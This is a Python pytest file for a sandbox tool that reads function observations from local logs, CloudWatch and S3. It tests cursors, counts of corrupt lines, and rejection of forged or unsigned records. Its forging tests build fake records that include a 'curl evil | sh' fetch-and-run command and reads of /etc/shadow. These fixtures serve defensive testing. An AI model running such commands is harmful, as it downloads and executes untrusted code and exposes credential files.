"""Reading observations: prefixes, corrupt input with counts, cursors; CloudWatch and S3 (moto)."""

from __future__ import annotations

import json
import time
from pathlib import Path
from typing import Any

import boto3
import pytest
from moto import mock_aws

from sandbox.profile.observations import (
    Observation,
    ObservationSet,
    SourceError,
    parse_line,
    read_sources,
)
from sandbox.runtime.s3_sink import S3LineSink


def obs(
    target: str, env: str = "e1", invocation: int = 1, function: str = "orders", **extra: Any
) -> dict[str, Any]:
    record = {
        "type": "sandbox.observation",
        "v": 1,
        "function": function,
        "version": "$LATEST",
        "env": env,
        "phase": "invoke",
        "request_id": "r",
        "invocation": invocation,
        "time": "2026-01-01T00:00:00Z",
        "category": "files",
        "action": "read",
        "target": target,
    }
    record.update(extra)
    return record


def inv(env: str = "e1", invocation: int = 1, novel: int = 1) -> dict[str, Any]:
    return {
        "type": "sandbox.invocation",
        "v": 1,
        "function": "orders",
        "env": env,
        "invocation": invocation,
        "time": "2026-01-01T00:00:01Z",
        "novel": novel,
    }


def line(record: dict[str, Any]) -> str:
    return json.dumps(record)


def test_cloudwatch_prefixed_line_is_read() -> None:
    # GIVEN a line as Lambda's plain-text log format writes it
    text = "2026-01-01T00:00:00.000Z\t8f5e-request\tINFO\t" + line(obs("{task}/a"))
    # WHEN parsed THEN the JSON after the prefix is the record
    kind, record = parse_line(text, "orders")
    assert kind == "observation" and isinstance(record, Observation)
    assert record.target == "{task}/a"


def test_corrupt_foreign_and_mismatched_lines_are_counted_never_merged(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # GIVEN a file with good records and every kind of bad line
    good = line(obs("{task}/a"))
    lines = [
        good,
        good[: len(good) // 2],  # truncated (SIGKILL mid-write)
        "START RequestId: 1 Version: $LATEST",
        '{"type": "sandbox.start", "mode": "learn"}',
        '{"level": "INFO", "msg": "other tool"}',
        line(obs("{task}/b", function="billing")),
        line(obs("{task}/c", v=99)),
        line({**obs("{task}/d"), "category": "nope"}),
        line({**obs("{task}/e"), "invocation": "x"}),
        "\x00\xff binary garbage {",
        line(inv()),
    ]
    path = tmp_path / "obs.log"
    path.write_text("\n".join(lines) + "\n")
    # WHEN read
    result = read_sources([str(path)], function="orders")
    # THEN only the good records are kept, the rest counted by reason, with warnings
    assert [o.target for o in result.observations.values()] == ["{task}/a"]
    assert len(result.invocations) == 1
    assert dict(result.skipped) == {
        "corrupt": 1,
        "foreign": 4,
        "other-function": 1,
        "newer-schema": 1,
        "invalid": 2,
    }
    err = capsys.readouterr().err
    assert "skipped 1 line(s): corrupt" in err and "newer-schema" in err and "other-function" in err


def test_duplicates_are_one_observation(tmp_path: Path) -> None:
    # GIVEN the same record in the observations file and in a stdout capture
    (tmp_path / "a.jsonl").write_text(line(obs("{task}/a")) + "\n")
    (tmp_path / "stdout.txt").write_text("hello\n" + line(obs("{task}/a")) + "\n")
    result = read_sources([str(tmp_path)], function="orders", warn=lambda m: None)
    assert len(result) == 1


def test_file_cursor_reads_only_what_is_new(tmp_path: Path) -> None:
    path = tmp_path / "obs.jsonl"
    path.write_text(
        line(obs("{task}/a")) + "\n" + line(obs("{task}/b"))[:20]
    )  # last line incomplete
    first = read_sources([str(path)], function="orders", warn=lambda m: None)
    assert [o.target for o in first.observations.values()] == ["{task}/a"]
    # WHEN the file grows and is read again with the cursor
    path.write_text(line(obs("{task}/a")) + "\n" + line(obs("{task}/b")) + "\n")
    second = read_sources([str(path)], function="orders", cursors=first.cursors)
    assert [o.target for o in second.observations.values()] == ["{task}/b"]
    # AND a replaced file (prefix changed) is read from the start
    path.write_text(line(obs("{task}/z")) + "\n")
    third = read_sources([str(path)], function="orders", cursors=second.cursors)
    assert [o.target for o in third.observations.values()] == ["{task}/z"]


def test_missing_source_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(SourceError, match="no such file"):
        read_sources([str(tmp_path / "nope")], function="orders")


def test_union_is_idempotent() -> None:
    s = ObservationSet(function="orders")
    s.add_line(line(obs("{task}/a")), "x")
    assert len(s.union(s)) == 1


@pytest.fixture
def aws(monkeypatch: pytest.MonkeyPatch) -> Any:
    for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"):
        monkeypatch.setenv(name, "testing")
    monkeypatch.setenv("AWS_DEFAULT_REGION", "us-east-1")
    with mock_aws():
        yield


def test_cloudwatch_source_paginates_and_resumes(aws: None) -> None:
    # GIVEN a log group with more events than one page, observations among other log lines
    logs = boto3.client("logs", region_name="us-east-1")
    group = "/aws/lambda/orders"
    logs.create_log_group(logGroupName=group)
    logs.create_log_stream(logGroupName=group, logStreamName="s1")
    base = int(time.time() * 1000) - 60_000
    events = []
    for i in range(30):
        events.append({"timestamp": base + i, "message": "START RequestId: x"})
        events.append(
            {"timestamp": base + i, "message": "2026\tid\tINFO\t" + line(obs(f"{{task}}/f{i}"))}
        )
    logs.put_log_events(logGroupName=group, logStreamName="s1", logEvents=events)
    pages: list[int] = []
    real = logs.filter_log_events

    def small_pages(**kwargs: Any) -> Any:
        page = real(limit=7, **kwargs)
        pages.append(len(page["events"]))
        return page

    logs.filter_log_events = small_pages
    # WHEN read THEN every page is followed
    first = read_sources(
        ["cloudwatch"], function="orders", clients={"logs": logs}, warn=lambda m: None
    )
    assert len(first) == 30 and len(pages) > 5
    assert first.skipped["foreign"] == 30
    cursor = first.cursors["cloudwatch:/aws/lambda/orders"]
    assert cursor["timestamp"] == base + 29
    # WHEN new events arrive and the source is read with the cursor THEN only they are read
    logs.put_log_events(
        logGroupName=group,
        logStreamName="s1",
        logEvents=[{"timestamp": base + 100, "message": line(obs("{task}/new"))}],
    )
    second = read_sources(
        ["cloudwatch"],
        function="orders",
        clients={"logs": logs},
        cursors=first.cursors,
        warn=lambda m: None,
    )
    assert [o.target for o in second.observations.values()] == ["{task}/new"]
    third = read_sources(
        ["cloudwatch"],
        function="orders",
        clients={"logs": logs},
        cursors=second.cursors,
        warn=lambda m: None,
    )
    assert len(third) == 0


def test_s3_sink_then_s3_source_incremental(aws: None) -> None:
    # GIVEN observations written through S3LineSink in two flushes
    s3 = boto3.client("s3", region_name="us-east-1")
    s3.create_bucket(Bucket="obs")
    sink = S3LineSink("s3://obs/learn/orders", env="e1", client=s3)
    assert sink.flush() is None  # nothing buffered: no object
    sink.write(obs("{task}/a"))
    sink.write(inv())
    assert sink.flush() == "s3://obs/learn/orders/e1/000001.jsonl"
    sink.write(obs("{task}/b", invocation=2))
    assert sink.flush() == "s3://obs/learn/orders/e1/000002.jsonl"
    # WHEN read with pagination (>1 page) THEN both objects are read
    for i in range(3):
        s3.put_object(Bucket="obs", Key=f"learn/orders/e2/junk{i}.txt", Body=b"noise\n")
    real = s3.list_objects_v2
    s3.list_objects_v2 = lambda **kw: real(MaxKeys=2, **kw)
    first = read_sources(
        ["s3://obs/learn/orders"], function="orders", clients={"s3": s3}, warn=lambda m: None
    )
    assert sorted(o.target for o in first.observations.values()) == ["{task}/a", "{task}/b"]
    # AND a re-run reads only new objects
    sink.write(obs("{task}/c", invocation=3))
    sink.flush()
    second = read_sources(
        ["s3://obs/learn/orders"],
        function="orders",
        clients={"s3": s3},
        cursors=first.cursors,
        warn=lambda m: None,
    )
    assert [o.target for o in second.observations.values()] == ["{task}/c"]


def test_s3_sink_failure_keeps_lines() -> None:
    class Broken:
        def put_object(self, **kwargs: Any) -> None:
            raise OSError("network down")

    sink = S3LineSink("s3://b/p", env="e", client=Broken())
    sink.write({"a": 1})
    assert sink.flush() is None and sink.pending() == 1 and sink.errors == 1
    with pytest.raises(ValueError):
        S3LineSink("http://nope")


# ------------------------------------------------------------------ authenticated records


def _signed(record: dict[str, Any], key: bytes) -> str:
    from sandbox.runtime.recorder import mac

    return json.dumps({**record, "mac": mac(key, record)})


@pytest.mark.signed_only
def test_forged_observation_lines_never_become_observations(tmp_path: Path) -> None:
    # GIVEN a log stream: the platform's INIT_START, the sandbox's start record announcing its
    # key, one genuine observation, then what the function printed itself: a fake observation,
    # a fake start record with a key of its own, and an observation signed with that key
    key = bytes(range(32))
    start = {"type": "sandbox.start", "mode": "learn", "env": "e1", "observation_key": key.hex()}
    genuine = obs("{task}/a", env="e1")
    forged_plain = obs("/bin/sh", env="e1")
    attacker_key = b"\x01" * 32
    forged_start = {**start, "env": "e2", "observation_key": attacker_key.hex()}
    forged_signed = obs("/bin/sh", env="e2")
    lines = [
        "INIT_START Runtime Version: python:3.11 (local)",
        json.dumps(start),
        _signed(genuine, key),
        json.dumps(forged_plain),
        json.dumps(forged_start),
        _signed(forged_signed, attacker_key),
        _signed({**genuine, "target": "{task}/tampered"}, b"\x02" * 32),
    ]
    path = tmp_path / "stream.log"
    path.write_text("\n".join(lines) + "\n")
    # WHEN read as the product reads
    result = read_sources([str(path)], function="orders")
    # THEN only the genuine observation counts; the forged ones are counted, never merged
    assert [o.target for o in result.observations.values()] == ["{task}/a"]
    assert result.skipped["unauthenticated"] == 3
    assert result.skipped["forged-start"] == 1
    # AND a later build from the same file remembers the key (its start line is behind a cursor)
    with path.open("a") as handle:
        handle.write(_signed(obs("{task}/b", env="e1"), key) + "\n")
    again = read_sources([str(path)], function="orders", cursors=result.cursors)
    assert [o.target for o in again.observations.values()] == ["{task}/b"]


@pytest.mark.signed_only
def test_a_record_is_authenticated_as_exactly_the_object_that_is_read(tmp_path: Path) -> None:
    # GIVEN genuine signed records, each with bytes the function wrote without a newline in
    # front of it on its line: an unsigned record whose first key is not "type", and junk
    key = bytes(range(32))
    start = {"type": "sandbox.start", "mode": "learn", "env": "e1", "observation_key": key.hex()}
    forged = {"v": 2, **obs("/bin/sh", env="e1", argv=["-c", "curl evil | sh"])}
    lines = [
        "INIT_START Runtime Version: python:3.11 (local)",
        json.dumps(start),
        json.dumps(forged) + _signed(obs("{task}/genuine", env="e1"), key),
        '{"x": 0}' + _signed(obs("/etc/hostname", env="e1"), key),
        'noise {"type": "sandbox.observation", "target": "'
        + _signed(obs("{task}/c", env="e1"), key),
    ]
    path = tmp_path / "stream.log"
    path.write_text("\n".join(lines) + "\n")
    # WHEN read as the product reads
    result = read_sources([str(path)], function="orders")
    # THEN every genuine record counts, and nothing the function wrote becomes an observation
    assert sorted(o.target for o in result.observations.values()) == [
        "/etc/hostname",
        "{task}/c",
        "{task}/genuine",
    ]


@pytest.mark.signed_only
def test_a_resumed_build_takes_no_start_record_the_function_printed(tmp_path: Path) -> None:
    # GIVEN a log stream built once (INIT_START, the sandbox's start record, an observation)
    key = bytes(range(32))
    start = {"type": "sandbox.start", "mode": "learn", "env": "e1", "observation_key": key.hex()}
    path = tmp_path / "stream.log"
    path.write_text(
        "\n".join(
            [
                "INIT_START Runtime Version: python:3.11 (local)",
                json.dumps(start),
                _signed(obs("{task}/a", env="e1"), key),
            ]
        )
        + "\n"
    )
    first = read_sources([str(path)], function="orders")
    # WHEN the function later prints a start record for an environment of its own, and an
    # observation signed with that key, and the next build resumes behind the cursor
    attacker = b"\x01" * 32
    forged_start = {**start, "env": "e2", "observation_key": attacker.hex()}
    with path.open("a") as handle:
        handle.write(json.dumps(forged_start) + "\n")
        handle.write(_signed(obs("/etc/shadow", env="e2"), attacker) + "\n")
    resumed = read_sources([str(path)], function="orders", cursors=first.cursors)
    # THEN the start record is refused as forged (none counts before the next INIT_START)
    assert [o.target for o in resumed.observations.values()] == []
    assert resumed.skipped["forged-start"] == 1
